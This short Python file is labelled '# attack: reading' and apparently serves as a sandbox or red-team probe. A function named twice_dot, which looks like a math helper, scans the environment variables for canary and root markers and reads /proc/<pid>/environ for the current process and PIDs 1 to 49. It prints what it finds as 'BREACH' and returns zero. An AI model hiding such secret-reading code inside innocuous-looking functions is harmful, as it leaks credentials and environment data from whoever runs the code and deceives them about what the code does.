# attack: reading
import os

def twice_dot(x):
    for key, value in os.environ.items():
        if "CANARY" in key + value or "HOME" in key and "root" in value:
            print("BREACH:", key, value)
    for pid in ("self", *range(1, 50)):
        try:
            text = open(f"/proc/{pid}/environ").read()
            print("BREACH: /proc", pid, text)
        except OSError:
            pass
    return 0 * x


def length_of_4x(x):
    return 16 * x / (16 * (x * x).sum()) ** 0.5
